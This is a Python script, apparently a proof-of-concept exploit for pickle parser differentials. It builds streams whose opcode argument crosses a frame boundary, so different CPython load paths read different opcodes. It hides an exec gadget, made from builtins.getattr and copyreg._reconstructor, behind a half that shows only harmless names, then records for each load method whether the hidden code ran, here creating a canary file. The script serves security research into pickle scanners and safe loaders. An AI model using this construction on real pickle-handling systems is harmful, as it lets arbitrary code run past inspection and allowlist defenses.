"""One stream, two readings: an opcode whose argument crosses the end of its frame.

CPython's C unpickler keeps the rest of a frame where it reads from memory or can ``peek`` that far,
and drops it where it cannot. What stands after the crossing then means one thing to ``loads`` and
another to ``load`` of a raw file. Run as a program, it loads such streams in every way and prints, as
JSON, for which of them the hidden half ran.
"""

from __future__ import annotations

import gzip
import io
import json
import pickle
import struct
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

# safeload arrives here


def named(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def text(value: str) -> bytes:
    return b"\x8c" + bytes([len(value)]) + value.encode()


def crossing(dropped: bytes, kept: bytes, padding: int) -> bytes:
    """What readers that drop the rest of a frame see, and what the others do; both to the last byte.

    BINBYTES has a length of four bytes and the frame ends behind the second. To those who keep them,
    the length is that of ``hidden``; to the others zero, and ``hidden`` is read as opcodes.
    """
    rest = kept + b"."
    hidden = bytes(2) + pickle.POP + dropped + pickle.BINBYTES + struct.pack("<I", len(rest))
    frame = pickle.BINBYTES + struct.pack("<I", padding) + bytes(padding) + pickle.POP
    frame += pickle.BINBYTES + struct.pack("<H", len(hidden))
    return (
        pickle.PROTO + b"\x04" + pickle.FRAME + struct.pack("<Q", len(frame)) + frame
        + bytes(2) + hidden + rest + pickle.POP + pickle.NONE + pickle.STOP
    )  # fmt: skip


def payload(canary: str) -> tuple[bytes, bytes]:
    """Names alone, all of them listed; and an ``exec`` that is made of them."""
    getattr_, function = named("builtins", "getattr"), named("copyreg", "_reconstructor")
    names = getattr_ + pickle.POP + function + pickle.POP
    builtins = getattr_ + b"(" + function + text("__builtins__") + b"tR"
    run = getattr_ + b"(" + builtins + text("get") + b"tR" + text("exec") + b"\x85R"
    run += text(f"open({canary!r}, 'w').close()") + b"\x85R"
    return names, run


class Own:
    """A file of the user's making."""

    def __init__(self, data: bytes) -> None:
        self.inner = io.BytesIO(data)
        self.read, self.readline = self.inner.read, self.inner.readline


class OwnPeek(Own):
    def peek(self, size: int) -> bytes:
        return self.inner.getvalue()[self.inner.tell() :][:size]


def opened(data: bytes, buffering: int) -> Any:
    path = Path("crossed.pkl")
    path.write_bytes(data)
    return path.open("rb", buffering)


WAYS: dict[str, Callable[[bytes], Any]] = {
    "loads": pickle.loads,
    "loads of bytearray": lambda data: pickle.loads(bytearray(data)),
    "BytesIO": lambda data: pickle.load(io.BytesIO(data)),
    "file": lambda data: pickle.load(opened(data, -1)),
    "file with a small buffer": lambda data: pickle.load(opened(data, 16)),
    "raw file": lambda data: pickle.load(opened(data, 0)),
    "gzip": lambda data: pickle.load(gzip.open(io.BytesIO(gzip.compress(data)))),
    "user's file": lambda data: pickle.load(Own(data)),
    "user's file with peek": lambda data: pickle.load(OwnPeek(data)),
    "Unpickler": lambda data: pickle.Unpickler(opened(data, -1)).load(),
    "Python unpickler": lambda data: pickle._load(io.BytesIO(data)),  # type: ignore[attr-defined]
}
PADDINGS = (0, 3_000, 40_000, 70_000, 140_000, 300_000)


def main() -> None:
    fired = {}
    for padding in PADDINGS:
        for flip in (False, True):
            for way, load in WAYS.items():
                canary = Path("canary")
                names, run = payload(str(canary))
                halves = (run, names) if flip else (names, run)
                stream = crossing(*halves, padding)
                try:
                    load(stream)
                except Exception as error:  # noqa: BLE001 - refused, or broken: both are fine
                    print(way, padding, flip, repr(error)[:99], file=sys.stderr)
                label = f"{way}, {padding} bytes, {'dropped' if flip else 'kept'} half is hostile"
                fired[label] = canary.exists()
                canary.unlink(missing_ok=True)
    print(json.dumps(fired))


if __name__ == "__main__":
    main()
